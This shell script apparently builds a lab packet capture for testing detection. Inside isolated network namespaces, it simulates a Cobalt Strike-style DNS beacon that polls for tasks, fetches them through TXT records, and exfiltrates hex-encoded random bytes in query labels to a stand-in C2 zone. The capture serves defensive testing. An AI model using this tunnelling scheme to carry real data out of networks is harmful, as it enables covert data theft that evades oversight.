#!/bin/sh
# mklab-tasked.sh OUT.pcap [MINUTES]
# A lab capture of a tasked C2 beacon (Cobalt Strike's DNS beacon in outline), made with real
# tools: a client namespace runs dig (one process per query, real sleeps) through a real
# unbound resolver that delegates the zone to a second unbound answering for it:
#   - the beacon checks in with one A query a minute (60 s x U(0.8, 1.2)) for
#     a<seq>.<constant 8-hex id>.c2.tasked-lab.net, answered 0.0.0.0 while idle;
#   - at its 6th and 11th check-in the answer is 0.0.0.243 (a task waits): the beacon fetches
#     it with four TXT queries <n>.t<seq>.<id>.c2... (answers of 200 base64 characters), then
#     sends its output, 4 KiB of random bytes hex-encoded, 56 bytes a query in two labels
#     under <n>.p<seq>.<id>.c2... (75 queries back to back, answered NXDOMAIN), and goes
#     back to idling;
#   - beside it the periodic lookups of one fixed name of mklab-beacon.sh (an NTP client, a
#     health check, an update poller) and a trickle of ordinary lookups.
# MINUTES (default 14) of real time. The client's veth is captured with tcpdump. Needs root,
# ip netns, unbound, dig, tcpdump and python3; exits 77 if one is missing.
set -u
out=$1
minutes=${2:-14}
for t in ip unbound dig tcpdump python3; do
	command -v $t >/dev/null 2>&1 || { echo "SKIP: $t not installed"; exit 77; }
done
. "$(cd "$(dirname "$0")/.." && pwd)/tests/unbound_conf.sh"
. "$(cd "$(dirname "$0")/.." && pwd)/tests/netns.sh"
lab_hosts t 94
set -e

# The plan, shared by the zone and the client: the beacon id and the tasks, from one seed.
seed=$(od -An -N4 -tu4 /dev/urandom | tr -d ' ')
plan() {
	python3 - "$seed" "$1" <<'PY'
import base64, random, sys
r = random.Random(int(sys.argv[1]))
bid = "%08x" % r.getrandbits(32)
zone = "c2.tasked-lab.net"
tasked = {5, 10}
if sys.argv[2] == "zone":
    for seq in range(40):
        addr = "0.0.0.243" if seq in tasked else "0.0.0.0"
        print('\tlocal-data: "a%d.%s.%s. 30 IN A %s"' % (seq, bid, zone, addr))
        if seq in tasked:
            for n in range(4):
                txt = base64.b64encode(r.randbytes(150)).decode()
                print("\tlocal-data: '%d.t%d.%s.%s. 30 IN TXT \"%s\"'" % (n, seq, bid, zone, txt))
else:
    print(bid)
PY
}

mkdir -p "$dir/auth"
{ unbound_server "$dir/auth" 10.95.0.2 53 10.95.0.0/24; cat <<CONF
	local-zone: "c2.tasked-lab.net." static
$(plan zone)
CONF
	lab_periodic_zones
} >"$dir/auth/unbound.conf"
lab_auth_start

mkdir -p "$dir/res"
{ lab_resolver_conf; lab_stubs c2.tasked-lab.net ntp-lab.net app-lab.net vendor-lab.net
} >"$dir/res/unbound.conf"
set +e
lab_start

ip netns exec $cli python3 - "$minutes" "$(plan id)" <<'PY'
import heapq, random, subprocess, sys, time
r = random.Random()
end = time.time() + float(sys.argv[1]) * 60
bid, zone = sys.argv[2], "c2.tasked-lab.net"
def dig(name, qtype="A", wait=False):
    cmd = ["dig", "+tries=1", "+time=2", "+short", "@10.94.0.1", "-t", qtype, name]
    if wait:
        return subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                              text=True).stdout.strip()
    subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
tasks = uploads = 0
now = time.time()
q = [(now + r.uniform(1, 5), "beacon", 0), (now + 2, "ntp", 0), (now + 3, "health", 0),
     (now + 4, "update", 0), (now + 5, "browse", 0)]
heapq.heapify(q)
while q:
    when, kind, seq = heapq.heappop(q)
    if when > end:
        continue
    time.sleep(max(0, when - time.time()))
    if kind == "beacon":
        if dig("a%d.%s.%s" % (seq, bid, zone), wait=True) == "0.0.0.243":
            task = "".join(dig("%d.t%d.%s.%s" % (n, seq, bid, zone), "TXT", True)
                           for n in range(4))
            tasks += len(task) > 0
            out = r.randbytes(4096).hex()
            for n, i in enumerate(range(0, len(out), 112)):
                part = out[i:i + 112]
                labels = ".".join(part[j:j + 56] for j in range(0, len(part), 56))
                dig("%s.%d.p%d.%s.%s" % (labels, n, seq, bid, zone), wait=True)
                uploads += 1
        heapq.heappush(q, (when + 60 * r.uniform(0.8, 1.2), kind, seq + 1))
    elif kind == "ntp":
        dig("time.ntp-lab.net")
        heapq.heappush(q, (when + 64, kind, 0))
    elif kind == "health":
        dig("health.svc.app-lab.net")
        heapq.heappush(q, (when + 30, kind, 0))
    elif kind == "update":
        dig("update.vendor-lab.net")
        heapq.heappush(q, (when + 60, kind, 0))
    else:
        dig(r.choice(["www.corp.example", "www.vendor-lab.net"]))
        heapq.heappush(q, (when + r.uniform(5, 40), kind, 0))
print("mklab-tasked: beacon %s, %d tasks fetched, %d upload queries" % (bid, tasks, uploads))
time.sleep(3)
PY
lab_finish "$out"
echo "mklab-tasked: $(tcpdump -r "$out" 2>/dev/null | wc -l) packets -> $out"
